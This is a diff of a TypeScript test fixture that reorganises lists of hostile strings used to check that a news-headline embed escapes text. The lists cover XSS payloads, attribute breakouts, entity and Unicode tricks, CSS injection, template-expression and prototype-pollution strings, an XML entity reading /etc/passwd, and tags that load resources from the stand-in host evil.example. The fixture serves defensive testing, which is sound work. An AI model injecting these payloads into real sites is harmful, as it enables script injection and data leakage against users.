@@ -1,8 +1,9 @@
-/** Attacks on headlines, beside those on HTML cleaners (test/feed/xss-payloads.ts): on the places that an embed puts text into. */
+/** Attacks on headlines: those on HTML cleaners, and those on the places that an embed puts text into. One list for whatever reads embeds. */
+import { xssPayloads } from '../feed/xss-payloads.ts'
+import { hostileAddresses, hostileWebAddresses } from './hostile-addresses.ts'
 
-/** Each would leave its element or its attribute, or the frame's own style and script, if it were not escaped. */
-export const hostileTexts: readonly string[] = [
-  // Ends of what is around it.
+/** Ends of what is around a text. */
+const ends = [
   '</a></h3></li></ul></section><script>alert(1)</script>',
   '</span></h3><h1>Breaking</h1>',
   '</bdi><img src=x onerror=alert(1)>',
@@ -13,6 +14,7 @@ export const hostileTexts: readonly string[] = [
   '</body></html><script>alert(1)</script>',
   '</p><p class="candor-label">Written by humans alone:</p>',
   '<plaintext>',
+  '<slot name="x"><img src=//evil.example/slot></slot>',
   '<template shadowrootmode="open"><script>alert(1)</script></template>',
   '<slot name="x"><style>.candor-label{display:none}</style>',
   '<base href="https://evil.example/">',
@@ -25,7 +27,17 @@ export const hostileTexts: readonly string[] = [
   '<svg><set attributeName=href to=javascript:alert(1) /></svg>',
   '<a href="https://evil.example/" target="_top">Read on</a>',
   '<a id=location><a id=location name=hash href="cid:x">',
-  // Attributes that try to end early.
+  '</title></textarea></noscript></template></iframe><svg onload=alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<object data="//evil.example/o"></object><embed src="//evil.example/e"><link rel=stylesheet href="//evil.example/l">',
+  '<meta http-equiv=refresh content="0;url=//evil.example/m"><base href="//evil.example/">',
+  '<style>@import "//evil.example/i";*{background:url(//evil.example/b)}</style>',
+  '<candor-headlines src="//evil.example/feed.json"></candor-headlines>',
+  '<form action="//evil.example/f"><input autofocus onfocus=alert(1)></form>',
+]
+
+/** Attributes that try to end early. */
+const attributes = [
   '"><script>alert(1)</script>',
   `'><script>alert(1)</script>`,
   '" onmouseover="alert(1)',
@@ -41,7 +53,15 @@ export const hostileTexts: readonly string[] = [
   '&quot; onclick=&quot;alert(1)',
   '&#34; onclick=&#34;alert(1)',
   '&#x22;&#x3e;&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
-  // References, comments, and other ways of saying something else.
+  '"><img src=x onerror="alert(1)">',
+  `'><img src=x onerror='alert(1)'>`,
+  '`><img src=x onerror=`alert(1)`>',
+  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" tabindex="0',
+  `' style='animation:x' onanimationstart='alert(1)'`,
+]
+
+/** References, comments, and other ways of saying something else. */
+const references = [
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&amp;lt;script&amp;gt;',
   '&ltscript&gtalert(1)&lt/script&gt',
@@ -50,16 +70,18 @@ export const hostileTexts: readonly string[] = [
   '--><script>alert(1)</script><!--',
   '--!><script>alert(1)</script>',
   '<!--><script>alert(1)</script>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
   ']]><script>alert(1)</script>',
   '<?xml version="1.0"?><?php echo 1 ?>',
   '<!doctype html><html><body><script>alert(1)</script>',
   '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
   '<% alert(1) %> {{constructor.constructor("alert(1)")()}} \u0024{alert(1)} #{1} [[x]] @{x}',
   "{title} $& $1 $$ $` $' \\u003cscript\\u003e",
-  'javascript:alert(1)',
-  '@import url(https://evil.example/x.css);}*{display:none',
-  // Letters that look like these, hide, or turn the text around.
+  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript>',
+]
+
+/** Letters that look like these, hide, turn the text around, or are too many or none. */
+const letters = [
   '＜script＞alert(1)＜/script＞',
   '\u2039script\u203aalert(1)\u02c2/script\u02c3',
   '<\u0000script>alert(1)</script>',
@@ -72,55 +94,60 @@ export const hostileTexts: readonly string[] = [
   'one\rtwo\r\nthree\n\tfour \f five',
   `${'<b>'.repeat(600)}deep`,
   `${'<'.repeat(2000)}`,
+  '\u202emoc.rednac\u202c',
+  '\u2066\u2067\u2068\u2069\u200e\u200f\u061c',
+  'Ọ'.repeat(10) + '\u0300'.repeat(500),
+  '\u0000\u0001\u0008\u001f\u007f\u0085',
+  '\ud800',
+  '\udc00\ud800',
+  '\ufffe\uffff',
+  '\u2028\u2029\u00ad\u200b\u200d\ufeff',
+  '\u{e0001}\u{e0041}😀👩‍👩‍👧',
+  '﷽'.repeat(300),
+  'x'.repeat(100_000),
+  '<b>'.repeat(20_000),
+  '\n'.repeat(5000),
+  ' ',
+  '\t',
 ]
 
-/** None of these is an address that a reader may follow. */
-export const hostileAddresses: readonly string[] = [
-  'javascript:alert(1)',
-  'JaVaScRiPt:alert(1)',
-  ' javascript:alert(1)',
-  '\u0001javascript:alert(1)',
-  'java\tscript:alert(1)',
-  'java\nscript:alert(1)',
-  'javascript://news.example.org/%0aalert(1)',
-  'vbscript:msgbox(1)',
-  'data:text/html,<script>alert(1)</script>',
-  'data:image/svg+xml,<svg onload=alert(1)>',
-  'blob:https://news.example.org/1',
-  'filesystem:https://news.example.org/1',
-  'view-source:https://news.example.org/',
-  'feed:javascript:alert(1)',
-  'file:///etc/passwd',
-  'ftp://news.example.org/',
-  'mailto:a@example.org?body=<script>',
-  'about:blank',
-  'intent://x#Intent;scheme=https;end',
-  'ws://news.example.org/',
-  '//evil.example/x',
-  '/rooted',
-  '#part',
-  '?query',
-  'https://',
-  'https://[news',
-  'https:// evil .example/',
-  'http://a b/',
-  'x',
-  '',
+/** Style sheets. */
+const styles = [
+  '@import url(https://evil.example/x.css);}*{display:none',
+  '}*{display:none!important}',
+  ';background:url(//evil.example/s);',
+  'url("javascript:alert(1)")',
+  'expression(alert(1))',
+  '@import url(//evil.example/s2);',
+  '--candor-label-color:transparent',
+  'position:fixed;inset:0',
+  'candor-label',
 ]
 
-/** These are, and have to be written so that they are nothing more. */
-export const hostileWebAddresses: readonly string[] = [
-  'https://x.example/"onclick="alert(1)',
-  `https://x.example/'onclick='alert(1)`,
-  'https://x.example/?a=1&b=2&copy=3&lt;',
-  'https://x.example/?q="><script>alert(1)</script>',
-  'https://x.example/#"><img src=x onerror=alert(1)>',
-  'https://x.example/`onload=`alert(1)',
-  'https://x.example/\u2028<script>alert(1)</script>',
-  'https://x.example/%22%3E%3Cscript%3E',
-  'https://javascript:alert(1)@x.example/',
-  'https://x.example\\@evil.example/',
-  'HTTPS://bücher.example/ä?ö#ü',
-  'http://x.example:80/a b\tc\nd',
-  `https://x.example/${'&quot;'.repeat(50)}`,
+/** What is a word or a template to programs. */
+const expressions = [
+  '{{constructor.constructor("alert(1)")()}}',
+  '\u0024{alert(1)}',
+  '<%= alert(1) %>',
+  '#{alert(1)}',
+  ...['{title}', '{date}', '{reviewed_by}', '$&', "$'", '$`', '%s%n', '%o'],
+  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'en-__proto__', 'valueOf'],
+  ...['ai-autonomous', 'ai-assisted', 'human-only', 'canceled', 'null', 'undefined', 'NaN', '-1', '1e999'],
+  ...['275761-01-01T00:00:00Z', '0000-00-00'],
+]
+
+/**
+ * What would leave its element or its attribute, or the frame's own style and script, calls `alert` or asks evil.example
+ * for something where it does. Addresses are among them, as they may stand where a text is expected.
+ */
+export const hostileTexts: readonly string[] = [
+  ...xssPayloads,
+  ...ends,
+  ...attributes,
+  ...references,
+  ...letters,
+  ...styles,
+  ...expressions,
+  ...hostileAddresses,
+  ...hostileWebAddresses,
 ]
